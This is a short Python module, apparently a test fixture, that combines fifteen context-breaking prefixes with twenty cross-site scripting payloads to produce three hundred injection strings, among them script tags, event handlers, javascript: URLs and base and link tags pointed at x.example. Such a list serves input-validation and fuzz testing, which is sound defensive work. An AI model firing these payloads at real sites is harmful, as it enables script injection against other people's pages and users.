"""Three hundred texts that break pages which take what they are told for markup: of our own making.

Ways out of where a text may stand, times what an attacker would like to have run; each short enough
for every field of a record.
"""

from itertools import product

WAYS_OUT = (
    "", '">', "'>", "</p>", "</td>", "</a>", "</title>", "</pre>", "</textarea>", "</select>",
    "</script>", "</svg>", "-->", "]]>", "\\\">",
)  # fmt: skip
WANTED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input>",
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=/>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example>",
    "<style>*{display:none}</style>",
    "{{7*7}}<b onclick=alert(1)>",
    "${alert(1)}' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "</main></body><h1>gone</h1>",
)
PAYLOADS = tuple(out + wanted for out, wanted in product(WAYS_OUT, WANTED))
"""All three hundred."""
